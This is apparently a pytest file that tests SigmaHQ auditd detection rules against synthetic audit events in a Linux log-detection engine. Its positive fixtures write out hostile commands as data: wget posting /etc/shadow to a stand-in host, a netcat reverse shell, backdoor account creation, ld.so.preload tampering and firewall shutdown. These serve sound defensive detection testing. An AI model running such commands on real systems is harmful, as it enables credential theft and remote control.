"""SigmaHQ's ``product: linux, service: auditd`` rules on assembled audit events.

The rules are written for one audit record at a time (``type: EXECVE`` + ``a0``); an event of
norrvakt.parsers.auditd holds all records of one audit event. Each case here is an event made
of several records, and the rule must fire on the positive one and stay silent on the negative
one — whichever record of the event the rule is about. The records are written for these
tests after the kernel's record layout (no captured logs).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from norrvakt.detect.engine import RuleSet
from norrvakt.detect.logsource import PipelineError, parse_pipeline
from norrvakt.event import RawRecord
from norrvakt.parsers import parse_record
from tests.conftest import SHARED_DATA
from tests.detect.helpers import rule_yaml

AUDITD_RULES = SHARED_DATA / "sigma" / "rules" / "linux" / "auditd"
NODE = "node=web1"
SERIAL = 0


def _event(*records: str) -> RawRecord:
    global SERIAL
    SERIAL += 1
    head = f"msg=audit(1764680000.{SERIAL:03d}:{7000 + SERIAL}):"
    lines = [f"{NODE} type={r.split(' ', 1)[0]} {head} {r.split(' ', 1)[1]}" for r in records]
    return RawRecord("lulea", "audisp-test", 1, "192.0.2.7:40000", "\n".join(lines).encode(), "auditd")


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def _syscall(
    exe: str, comm: str, nr: str = "59", name: str = "execve", key: str = "(null)", extra: str = ""
) -> str:
    return (
        f"SYSCALL arch=c000003e syscall={nr} success=yes exit=0 a0=7ffd1 a1=7ffd2 a2=7ffd3 a3=0 items=2 "
        f"ppid=900 pid=4711 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
        f'comm="{comm}" exe="{exe}" {extra}key={key}\x1dARCH=x86_64 SYSCALL={name} AUID="anna" UID="root"'
    )


def _exec(exe: str, *argv: str, key: str = "(null)") -> RawRecord:
    args = " ".join(
        f"a{i}={_hex(a) if ' ' in a else repr(a).replace(chr(39), chr(34))}" for i, a in enumerate(argv)
    )
    return _event(
        _syscall(exe, Path(exe).name, key=key),
        f"EXECVE argc={len(argv)} {args}",
        'CWD cwd="/home/anna"',
        f'PATH item=0 name="{exe}" inode=10 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
        'PATH item=1 name="/lib64/ld-linux-x86-64.so.2" inode=11 dev=08:01 mode=0100755 nametype=NORMAL',
        f"PROCTITLE proctitle={_hex(chr(0).join(argv))}",
    )


def _open(path: str, exe: str = "/usr/bin/vi") -> RawRecord:
    return _event(
        _syscall(exe, Path(exe).name, "257", "openat", key='"watch"'),
        'CWD cwd="/root"',
        'PATH item=0 name="/etc/" inode=2 dev=08:01 mode=040755 ouid=0 ogid=0 nametype=PARENT',
        f'PATH item=1 name="{path}" inode=3 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=CREATE',
        f"PROCTITLE proctitle={_hex('vi' + chr(0) + path)}",
    )


def _load_sigma(relative: str) -> RuleSet:
    path = AUDITD_RULES / relative
    if not path.is_file():
        pytest.skip(f"SigmaHQ rules not present ({path} is absent: ../shared/data is not laid out here)")
    rules, report = RuleSet.load([path], use_cache=False)
    assert not report.not_loaded, [(s.location, s.reason) for s in report.not_loaded]
    assert len(rules) == 1
    return rules


def _fires(rules: RuleSet, record: RawRecord) -> bool:
    event = parse_record(record)
    assert event.kind == "event", event.ecs
    return bool(rules.match(event))


# (rule file, a positive event, a negative event)
CASES = [
    (  # an EXECVE rule: a0/a1 of the EXECVE record, not the SYSCALL record's registers
        "execve/lnx_auditd_data_exfil_wget.yml",
        lambda: _exec("/usr/bin/wget", "wget", "--post-file=/etc/shadow", "http://192.0.2.99/up"),
        lambda: _exec("/usr/bin/wget", "wget", "http://deb.debian.org/debian/"),
    ),
    (  # a SYSCALL rule on an exec event: exe of the SYSCALL record
        "syscall/lnx_auditd_create_account.yml",
        lambda: _exec("/usr/sbin/useradd", "useradd", "-m", "backdoor"),
        lambda: _exec("/usr/bin/id", "id", "anna"),
    ),
    (  # a PATH rule: the second PATH record (the created file), the first is its directory
        "path/lnx_auditd_ld_so_preload_mod.yml",
        lambda: _open("/etc/ld.so.preload"),
        lambda: _open("/etc/hosts"),
    ),
    (  # a SYSCALL rule naming the syscall (the enriched SYSCALL field)
        "syscall/lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml",
        lambda: _event(_syscall("/usr/bin/mknod", "mknod", "133", "mknod"), 'CWD cwd="/tmp"'),
        lambda: _event(_syscall("/usr/bin/mkdir", "mkdir", "83", "mkdir"), 'CWD cwd="/tmp"'),
    ),
    (  # a key-only rule: the SYSCALL record's key, on the assembled event
        "lnx_auditd_susp_c2_commands.yml",
        lambda: _exec("/usr/bin/nc", "nc", "-e", "/bin/sh", "192.0.2.9", "4444", key='"susp_activity"'),
        lambda: _exec("/usr/bin/nc", "nc", "-l", "8080"),
    ),
    (  # a single-record user-space event
        "service_stop/lnx_auditd_disable_system_firewall.yml",
        lambda: _event(
            "SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
            'msg=\'unit=ufw comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? '
            "terminal=? res=success'"
        ),
        lambda: _event(
            "SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
            'msg=\'unit=cron comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? '
            "terminal=? res=success'"
        ),
    ),
    (  # an EXECVE rule with an argument the kernel wrote as hex (it holds a space)
        "lnx_auditd_system_info_discovery.yml",
        lambda: _exec("/usr/bin/grep", "grep", "-i vbox", "/proc/scsi/scsi"),
        lambda: _exec("/usr/bin/grep", "grep", "-i anna", "/etc/passwd"),
    ),
]


@pytest.mark.parametrize(("rule", "positive", "negative"), CASES, ids=[c[0] for c in CASES])
def test_sigmahq_auditd_rule(rule: str, positive, negative) -> None:  # type: ignore[no-untyped-def]
    rules = _load_sigma(rule)
    assert _fires(rules, positive()), f"{rule} did not fire on its positive event"
    assert not _fires(rules, negative()), f"{rule} fired on its negative event"


def test_every_sigmahq_auditd_rule_loads() -> None:
    if not AUDITD_RULES.is_dir():
        pytest.skip(f"SigmaHQ rules not present ({AUDITD_RULES} is absent)")
    rules, report = RuleSet.load([AUDITD_RULES], use_cache=False)
    assert not report.not_loaded, [(s.location, s.reason) for s in report.not_loaded]
    assert len(rules) == len(list(AUDITD_RULES.rglob("*.yml")))


OWN_RULE = rule_yaml(
    """
    exec_of_shadow_reader:
        type: EXECVE
        a0: cat
        a1: /etc/shadow
    from_a_login_session:
        type: SYSCALL
        auid: 1000
    condition: exec_of_shadow_reader
    """,
    "product: linux\nservice: auditd",
)


def test_own_rule_reads_the_execve_record_of_an_assembled_event() -> None:
    rules, report = RuleSet.from_yaml(OWN_RULE)
    assert not report.not_loaded, [s.reason for s in report.not_loaded]
    assert _fires(rules, _exec("/usr/bin/cat", "cat", "/etc/shadow"))
    assert not _fires(rules, _exec("/usr/bin/cat", "cat", "/etc/hostname"))


def test_own_rule_does_not_mix_records() -> None:
    # SYSCALL's a0 is a register; a rule on EXECVE's a0 must not read it, nor EXECVE's the other.
    rule = rule_yaml(
        "sel:\n    type: SYSCALL\n    a0: cat\ncondition: sel", "product: linux\nservice: auditd"
    )
    rules, _ = RuleSet.from_yaml(rule)
    assert not _fires(rules, _exec("/usr/bin/cat", "cat", "/etc/shadow"))


def test_auditd_rules_never_meet_other_linux_events() -> None:
    rules, _ = RuleSet.from_yaml(OWN_RULE)
    syslog = RawRecord(
        "lulea", "s", 1, "p", b"<86>Nov 26 21:43:38 web1 sudo: anna : COMMAND=/bin/cat /etc/shadow"
    )
    assert not rules.match(parse_record(syslog))


def test_service_variants_are_checked_when_the_mapping_loads() -> None:
    text = (
        "name: t\nproducts:\n  linux:\n    services:\n      auditd:\n"
        "        where: {norrvakt.family: auditd}\n"
    )
    with pytest.raises(PipelineError, match=r"auditd.variants: expected a non-empty list"):
        parse_pipeline(text + "        variants: {}\n", "t.yml")
    with pytest.raises(PipelineError, match=r"variants\[0\]: unknown keys \['renames'\]"):
        parse_pipeline(text + "        variants: [{renames: {a: b}}]\n", "t.yml")
    ok = parse_pipeline(text + "        variants: [{rename: {a0: EXECVE.a0}, where: {x: y}}]\n", "t.yml")
    base, more = ok.resolve("linux", None, "auditd").variants
    assert base.rename == () and more.rename == (("a0", "EXECVE.a0"),)
    assert dict(more.where) == {"norrvakt.family": ("auditd",), "x": ("y",)}
